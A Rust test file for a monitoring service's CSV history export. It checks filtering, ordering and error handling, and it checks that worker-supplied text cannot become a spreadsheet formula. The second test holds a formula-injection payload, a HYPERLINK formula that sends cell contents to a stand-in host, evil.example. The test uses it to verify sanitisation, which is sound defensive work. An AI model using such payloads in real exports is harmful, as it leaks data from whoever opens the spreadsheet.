//! The history as a table.

use serde_json::json;

use crate::support::TestServer;

async fn table(server: &TestServer, query: &str) -> Vec<csv::StringRecord> {
    let answer = server.get(&format!("/api/v1/monitoring/history/export{query}")).await;
    assert_eq!(answer.headers()["content-type"], "text/csv; charset=utf-8");
    let text = answer.text().await.unwrap();
    csv::Reader::from_reader(text.as_bytes()).records().map(Result::unwrap).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn all_that_matches_is_there_once_newest_first() {
    let server = TestServer::start().await;
    // Several parts of one moment, and days far apart.
    server
        .sql(
            "insert into task_execution_logs (task_name, status, task_id, created_at)
             select case when n % 3 = 0 then 'a' else 'b' end, 'success', n, '2026-11-20 10:00Z'::timestamptz - (n / 700) * interval '3 days'
             from generate_series(0, 2099) n",
        )
        .await;
    let ids = async |query: &str| -> Vec<u32> { table(&server, query).await.iter().map(|row| row[1].parse().unwrap()).collect() };
    let wanted: Vec<u32> = [0, 700, 1400].into_iter().flat_map(|first| (first..first + 700).rev()).collect();
    assert_eq!(ids("").await, wanted);
    assert_eq!(ids("?task_name=a").await, wanted.iter().copied().filter(|n| n % 3 == 0).collect::<Vec<_>>());
    assert_eq!(ids("?q=task:a%20id:1401,3,6").await, [6, 3, 1401]);
    assert_eq!(ids("?start_date=2026-11-15&end_date=2026-11-18").await, wanted[700..1400]);
    assert_eq!(ids("?task_name=nobody").await, [0; 0]);
    let page = server.history("page_size=1").await;
    let first = &table(&server, "").await[0];
    assert_eq!(
        (&first[0], &first[3], &first[8]),
        (&*page["items"][0]["id"].to_string(), "success", "2026-11-20T10:00:00.000000Z")
    );
    for wrong in ["status=done", "q=stauts:failed", "start_date=x"] {
        assert_eq!(server.get(&format!("/api/v1/monitoring/history/export?{wrong}")).await.status(), 400, "{wrong}");
    }
}

/// What a worker sends runs nothing on the machine of who opens the table.
#[tokio::test(flavor = "multi_thread")]
async fn no_text_is_a_formula() {
    let server = TestServer::start().await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"error\")";
    for (number, begin) in ["=", "+", "-", "@", "\t=", "\r=", "\n="].iter().enumerate() {
        let text = format!("{begin}{formula}");
        let event = json!({
            "type": "task_failed", "task_id": text, "task_name": format!("{text}{number}"), "timestamp": chrono::Utc::now(), "worker": text,
            "queue": text, "error_type": text, "error_message": text, "params": [formula], "result": -1,
        });
        server.report(&json!([event])).await;
    }
    server.executions(7).await;
    let rows = table(&server, "").await;
    assert_eq!(rows.len(), 7);
    for row in &rows {
        for cell in row {
            let is_formula = cell.trim_start().starts_with(['=', '+', '@']) || cell.starts_with(['\t', '\r', '\n']);
            assert!(!is_formula && (!cell.starts_with('-') || cell == "-1"), "{cell:?} in {row:?}");
        }
        assert!(row[14].ends_with(formula) && &row[16] == "-1", "nothing of it is lost: {row:?}");
    }
}
